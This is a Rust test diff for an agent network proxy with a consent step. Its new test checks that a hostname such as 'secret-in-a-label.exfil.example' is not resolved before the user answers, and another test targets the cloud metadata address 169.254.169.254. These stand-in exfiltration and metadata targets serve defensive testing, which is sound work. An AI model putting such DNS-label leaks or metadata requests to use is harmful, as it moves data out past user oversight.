@@ -33,10 +33,12 @@ fn watch_panics() {
 }
 
 /// Names → addresses, for tests that must not touch real DNS.
-struct FakeDns(HashMap<String, Vec<IpAddr>>);
+/// Names and their addresses, and how many lookups were made.
+struct FakeDns(HashMap<String, Vec<IpAddr>>, AtomicUsize);
 
 impl Resolver for FakeDns {
     fn lookup<'a>(&'a self, name: &'a str, port: u16) -> LookupFuture<'a> {
+        self.1.fetch_add(1, Ordering::SeqCst);
         let r = match self.0.get(name) {
             Some(ips) => Ok(ips.iter().map(|ip| SocketAddr::new(*ip, port)).collect()),
             None => Err(std::io::Error::new(
@@ -59,6 +61,7 @@ fn fake(pairs: &[(&str, &[&str])]) -> Arc<FakeDns> {
                 )
             })
             .collect(),
+        AtomicUsize::new(0),
     ))
 }
 
@@ -738,11 +741,37 @@ async fn ask_mode_times_out_to_deny() {
 #[tokio::test]
 async fn ask_mode_never_asks_about_refused_addresses() {
     let port = echo_server().await;
-    let dns = fake(&[("meta.example", &["169.254.169.254"])]);
-    let mut p = start(policy(NetMode::Ask, &[]), Some(dns));
-    let (_s, head) = connect_via(&p.sock, &format!("meta.example:{port}")).await;
+    let mut p = start(policy(NetMode::Ask, &[]), None);
+    let (_s, head) = connect_via(&p.sock, &format!("169.254.169.254:{port}")).await;
     assert!(head.starts_with("HTTP/1.1 403"), "{head}");
     assert!(p.consent.try_recv().is_err());
+}
+
+/// A name the user has not allowed is never looked up: the lookup alone
+/// would carry it (and whatever the agent encoded in it) to the user's
+/// resolver, with no question asked (pass 11B).
+#[tokio::test]
+async fn ask_mode_looks_up_no_name_before_the_answer() {
+    let dns = fake(&[]);
+    let mut p = start(policy(NetMode::Ask, &[]), Some(dns.clone()));
+    let client = tokio::spawn({
+        let sock = p.sock.clone();
+        async move {
+            connect_via(&sock, "secret-in-a-label.exfil.example:443")
+                .await
+                .1
+        }
+    });
+    let q = tokio::time::timeout(Duration::from_secs(10), p.consent.recv())
+        .await
+        .ok()
+        .flatten()
+        .unwrap_or_else(|| panic!("no question; {} lookups", dns.1.load(Ordering::SeqCst)));
+    assert_eq!(dns.1.load(Ordering::SeqCst), 0);
+    q.answer(ConsentAnswer::Deny);
+    let head = client.await.unwrap();
+    assert!(head.starts_with("HTTP/1.1 403"), "{head}");
+    assert_eq!(dns.1.load(Ordering::SeqCst), 0);
 }
 
 #[tokio::test]
